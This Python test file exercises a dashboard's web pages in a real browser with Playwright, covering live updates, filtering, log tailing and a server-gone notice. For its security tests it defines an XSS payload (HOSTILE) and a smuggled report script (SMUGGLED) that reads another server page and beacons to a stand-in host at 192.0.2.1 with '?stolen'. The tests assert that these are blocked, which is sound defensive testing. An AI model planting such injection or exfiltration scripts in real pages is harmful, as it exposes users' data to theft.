"""The page in a real browser: it fills while it is open, is filtered, leads to records, and asks nobody else."""

import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import pytest
from tests.browser import needs_chromium

from nasaudit.measure.estimate import Estimate, Measurement
from nasaudit.serving import reports, watch
from nasaudit.serving.server import Served, bind
from nasaudit.store.lock import hold

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed (extra `dev`)")

pytestmark = [pytest.mark.browser, needs_chromium]
DESKTOP, PHONE = 1280, 375
HOSTILE = "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"
# As a report whose scripts a record got into: it tries to read another page of the server, and to send what it has.
SMUGGLED = b"""<!doctype html><title>report</title><h1>The report</h1><p id=said>silent</p><script>
const said = document.getElementById("said");
said.textContent = "script ran";
fetch("/live").then(() => { said.textContent += ", read"; }, () => { said.textContent += ", read nothing"; });
try { said.textContent += window.parent.document.title; } catch (error) { said.textContent += ", of no origin"; }
new Image().src = "http://192.0.2.1/?stolen";
</script>"""


@dataclass
class Opened:
    """A page with all that it said and asked for."""

    page: "playwright.Page"
    address: str
    complaints: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)
    failed: list[tuple[str, str | None]] = field(default_factory=list)

    @property
    def foreign(self) -> list[str]:
        return [url for url in self.requests if not url.startswith((self.address, "data:"))]


@pytest.fixture
def open_page(chromium, folder, monkeypatch) -> Iterator[Callable[..., Opened]]:
    monkeypatch.setattr(watch, "LOOK_EVERY", 0.2)
    place = bind()
    served = Served(folder.path, place)
    context = chromium.new_context()

    def open_at(path: str = "") -> Opened:
        page = context.new_page()
        page.set_viewport_size({"width": DESKTOP, "height": 800})
        opened = Opened(page, place.address)
        page.on("console", lambda message: opened.complaints.append(message.text))
        page.on("pageerror", lambda error: opened.complaints.append(str(error)))
        page.on("request", lambda request: opened.requests.append(request.url))
        page.on("requestfailed", lambda request: opened.failed.append((request.url, request.failure)))
        page.goto(place.address + path)
        return opened

    yield open_at
    context.close()
    served.close()


def test_a_page_that_is_open_fills_while_tasks_finish(open_page, folder) -> None:
    opened = open_page()
    page = opened.page
    page.wait_for_selector("text=None yet.")
    assert page.locator("#figures tbody tr").count() == 0
    page.evaluate("window.stays = true")
    with hold(folder.path):
        folder.commit(folder.training)
        began = time.monotonic()
        page.wait_for_selector("#figures >> text=97.2% [94.9%, 98.5%]", timeout=15_000)
        assert time.monotonic() - began < 10
        page.wait_for_selector("#summary >> text=1 of 3 tasks")
        assert page.title() == "1/3 · small"
    folder.fail(next(task for task in folder.tasks if task.kind == "architecture_analysis"))
    page.wait_for_selector("#failures >> text=ValueError: the loss became NaN", timeout=15_000)
    assert page.evaluate("window.stays"), "the page was loaded anew"
    assert (opened.complaints, opened.foreign) == ([], [])


def test_tasks_are_filtered_and_a_record_is_opened(open_page, folder) -> None:
    folder.commit(folder.training, {"weights.safetensors": b"12345"})
    folder.store.words.keep(folder.training.digest(), "a word of the worker")
    opened, expect = open_page(), playwright.expect
    page = opened.page
    rows = page.locator("#tasks tbody tr")
    page.wait_for_selector("#tasks tbody tr")
    assert rows.count() == 3
    page.get_by_role("searchbox").fill("topology")
    expect(rows).to_have_count(1)
    assert page.url.endswith("/?q=topology")
    page.get_by_role("searchbox").fill("")
    expect(rows).to_have_count(3)
    page.locator(".states a", has_text="done").click()
    expect(rows).to_have_count(1)
    page.go_back()
    expect(rows).to_have_count(3)
    page.locator("#tasks a", has_text="train darts (seed 0)").click()
    page.wait_for_selector("h1:has-text('train darts (seed 0)')")
    for words in ("a word of the worker", "weights.safetensors", '"architecture": {', "97.2% [94.9%, 98.5%]"):
        page.wait_for_selector(f"text={words}")
    assert (opened.complaints, opened.foreign) == ([], [])


def test_the_log_of_a_task_that_runs_follows_it_to_its_end(open_page, folder) -> None:
    digest, words = folder.training.digest(), folder.store.words
    with hold(folder.path), folder.store.writing():
        folder.store.workspace(folder.training)
        words.keep(digest, "\n".join(f"step {number}" for number in range(200)))
        opened = open_page(f"tasks/{digest}")
        page = opened.page
        page.wait_for_selector("#log >> text=step 199")
        words.keep(digest, "\n".join(f"step {number}" for number in range(300)))
        page.wait_for_selector("#log >> text=step 299", timeout=15_000)
        assert (
            page.evaluate(
                "(box => box.scrollHeight - box.scrollTop - box.clientHeight)(document.querySelector('#log pre'))"
            )
            < 4
        )
        page.evaluate("document.querySelector('#log pre').scrollTop = 50")
        words.keep(digest, "\n".join(f"step {number}" for number in range(400)))
        page.wait_for_selector("#log >> text=step 399", timeout=15_000)
        assert page.evaluate("document.querySelector('#log pre').scrollTop") == 50
    folder.commit(folder.training)
    page.wait_for_selector("#outcome >> text=97.2% [94.9%, 98.5%]", timeout=15_000)
    assert (opened.complaints, opened.foreign) == ([], [])


def test_words_of_strangers_run_nothing_and_widen_nothing(open_page, folder) -> None:
    long = HOSTILE + "long" * 200
    figure = Measurement("clean_accuracy", Estimate(0.5, 0.4, 0.6, 9, "fraction"), ((long, long),))
    folder.commit(folder.training, versions={long: long}, measurements=(figure,))
    folder.fail(folder.tasks[1], long)
    folder.store.words.keep(folder.training.digest(), long)
    for path in ("", f"tasks/{folder.training.digest()}", f"tasks/{folder.tasks[1].digest()}"):
        opened = open_page(path)
        opened.page.wait_for_timeout(300)
        assert "owned" not in opened.page.title()
        root = "document.documentElement"
        for width in (DESKTOP, PHONE):
            opened.page.set_viewport_size({"width": width, "height": 800})
            assert opened.page.evaluate(f"{root}.scrollWidth - {root}.clientWidth") == 0
        assert (opened.complaints, opened.foreign) == ([], [])


def test_the_report_grows_and_reads_nothing_of_the_server(open_page, folder, monkeypatch) -> None:
    drawings = []

    def draw(self: reports.Reports, path: object) -> tuple[bytes, int, int]:
        drawings.append(path)
        return SMUGGLED, len(drawings), 3

    monkeypatch.setattr(reports.Reports, "_in_a_process", draw)
    monkeypatch.setattr(reports, "DRAW_EVERY", 0.1)
    folder.commit(folder.training)
    opened = open_page("report")
    page = opened.page
    page.wait_for_selector("text=The report as of 1 of 3 tasks.", timeout=15_000)
    frame = page.frame_locator("#report")
    frame.locator("text=script ran, of no origin, read nothing").wait_for(timeout=15_000)
    folder.commit(folder.tasks[1])
    page.wait_for_selector("text=The report as of 2 of 3 tasks.", timeout=15_000)
    frame.locator("h1").click()  # somebody reads
    folder.commit(folder.tasks[2])
    page.wait_for_selector("#newer:visible", timeout=15_000)
    page.locator("#newer").click()
    page.wait_for_selector("#newer", state="hidden")
    # What the script asked another machine for never left the browser.
    assert opened.foreign
    assert all((url, "csp") in opened.failed for url in opened.foreign)


def test_a_server_that_is_gone_is_said(chromium, folder) -> None:
    place = bind()
    served = Served(folder.path, place)
    page = chromium.new_page()
    page.goto(place.address)
    page.wait_for_selector("#tasks tbody tr")
    assert not page.locator("#lost").is_visible()
    served.close()
    page.wait_for_selector("#lost:visible", timeout=15_000)
    page.close()
    assert not [thread for thread in threading.enumerate() if thread.name == "nasaudit-serve"]
